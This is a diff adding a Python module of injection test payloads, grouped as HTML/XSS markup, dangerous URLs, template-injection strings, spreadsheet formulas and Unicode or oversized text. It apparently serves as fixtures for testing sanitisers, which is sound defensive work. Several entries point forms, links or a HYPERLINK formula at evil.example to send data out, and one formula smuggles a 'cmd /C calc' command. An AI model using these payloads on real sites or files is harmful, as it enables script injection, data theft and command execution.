@@ -1,0 +1,70 @@
+"""What somebody could send to harm those who read it: markup, links, templates, formulas, and text that breaks rows."""
+
+MARKUP = (
+    "<script>alert(1)</script>",
+    '"><img src=x onerror=alert(1)>',
+    "<svg/onload=alert(1)>",
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<a href="javascript:alert(1)">x</a>',
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content=0;url=//evil.example>",
+    "<form action=//evil.example><input name=token>",
+    "<style>@import'//evil.example'</style>",
+    "<link rel=prefetch href=//evil.example>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<body onpageshow=alert(1)>",
+    "<template><script>alert(1)</script><template><img src=x onerror=alert(1)></template></template>",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "--><script>alert(1)</script>",
+    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
+)
+ADDRESSES = (
+    "javascript:alert(1)",
+    "JaVa&#x09;script:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "vbscript:x",
+    "//evil.example/x",
+    "https://a@evil.example/",
+    "https://evil.example\\@good.example/",
+    "[x](javascript:alert(1))",
+    "![x](https://evil.example/p.png)",
+    "https://evil.example/<script>alert(1)</script>",
+    "blob:https://evil.example/1",
+    "/api/me",
+)
+TEMPLATES = (
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "#{7*7}",
+    "{0.__class__.__init__.__globals__}",
+    "{user.__class__}",
+    "%(x)s",
+    "$(id)",
+    "__proto__",
+    "constructor",
+)
+FORMULAS = (
+    '=HYPERLINK("//evil.example?"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+    "<!channel>",
+    "<@U1>",
+    "<b>bold</b> *bold* _it_ @everyone",
+)
+SHAPES = (
+    "\u202egpj.exe",
+    "a" + "\u0301" * 10_000,
+    "W" * 65_536,
+    "one\u2028two\u2029three",
+    "\x00=1+1 \x00 and \x85 and \x9b31m",
+    "👩‍👩‍👧‍👦" * 40,
+    "\ud7ff\ufffe\uffff",
+)
+PAYLOADS = (*MARKUP, *ADDRESSES, *TEMPLATES, *FORMULAS, *SHAPES)
